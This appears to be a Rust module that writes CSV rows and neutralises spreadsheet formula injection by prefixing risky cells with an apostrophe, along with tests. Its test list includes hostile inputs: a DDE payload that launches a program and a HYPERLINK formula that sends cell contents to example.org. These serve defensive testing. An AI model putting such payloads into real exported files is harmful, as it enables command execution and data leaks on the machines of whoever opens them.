//! Comma-separated values (RFC 4180).
//!
//! A spreadsheet runs a cell that begins with certain characters, whoever wrote it: a resident's
//! answer could send the table elsewhere. Such a text gets an apostrophe in front, which
//! spreadsheets take for "this is text".

use crate::Cell;

/// The mark by which Excel knows UTF-8.
pub(crate) const BOM: &[u8] = "\u{feff}".as_bytes();

/// What makes a spreadsheet run a cell. The wide forms count where Chinese or Japanese is typed.
const RUNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// What makes a program that reads the file end a cell, or strip it.
const NEEDS_QUOTES: [char; 7] = [',', ';', '\t', '"', '\r', '\n', ' '];

pub(crate) fn row<'a>(cells: impl IntoIterator<Item = Cell<'a>>, out: &mut Vec<u8>) {
    for (at, cell) in cells.into_iter().enumerate() {
        if at > 0 {
            out.push(b',');
        }
        match cell {
            Cell::Empty => {}
            Cell::Number(number) => out.extend_from_slice(number.as_bytes()),
            Cell::Text(text) => write_text(&text, out),
        }
    }
    out.extend_from_slice(b"\r\n");
}

fn write_text(text: &str, out: &mut Vec<u8>) {
    let quoted = text.contains(NEEDS_QUOTES);
    if quoted {
        out.push(b'"');
    }
    // Programs strip what is in front before they look for a formula.
    if text.trim_start().starts_with(RUNS) || text.starts_with(RUNS) {
        out.push(b'\'');
    }
    for byte in text.bytes() {
        if byte == b'"' {
            out.push(byte);
        }
        out.push(byte);
    }
    if quoted {
        out.push(b'"');
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn one(cell: Cell<'_>) -> String {
        let mut out = Vec::new();
        row([cell], &mut out);
        String::from_utf8(out)
            .unwrap()
            .trim_end_matches("\r\n")
            .to_owned()
    }

    /// One row as a spreadsheet reads it.
    fn read(line: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let (mut quoted, mut chars) =
            (false, line.strip_suffix("\r\n").unwrap().chars().peekable());
        while let Some(c) = chars.next() {
            let last = cells.last_mut().unwrap();
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => last.push(chars.next().unwrap()),
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(String::new()),
                c => last.push(c),
            }
        }
        cells
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_made_inert() {
        for hostile in [
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1,1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "＝1＋1",
            "=HYPERLINK(\"http://example.org?\"&A1)",
        ] {
            let cells = read(&(one(Cell::text(hostile)) + "\r\n"));
            assert_eq!(cells, [format!("'{hostile}")], "{hostile:?}");
        }
        assert_eq!(
            one(Cell::text("a;=1")),
            "\"a;=1\"",
            "a semicolon ends a cell in some countries"
        );
    }

    #[test]
    fn numbers_stay_numbers_and_texts_stay_as_they_are() {
        assert_eq!(one(Cell::number("-12.5")), "-12.5");
        assert_eq!(one(Cell::text("王太")), "王太");
        assert_eq!(one(Cell::text("a \"b\"")), "\"a \"\"b\"\"\"");
        assert_eq!(one(Cell::Empty), "");
    }

    proptest! {
        #[test]
        fn every_text_comes_back_and_none_begins_a_formula(
            texts in prop::collection::vec("[=+@,;\"'a\\n\\r\\t -]{0,6}|\\PC{0,8}", 1..6),
        ) {
            let mut out = Vec::new();
            row(texts.iter().map(|text| Cell::text(text.as_str())), &mut out);
            let cells = read(&String::from_utf8(out).unwrap());
            prop_assert_eq!(cells.len(), texts.len());
            for (cell, text) in cells.iter().zip(&texts) {
                let inert = format!("'{text}");
                prop_assert!(cell == text || *cell == inert);
                prop_assert!(!cell.starts_with(RUNS) && !cell.trim_start().starts_with(RUNS));
            }
        }
    }
}
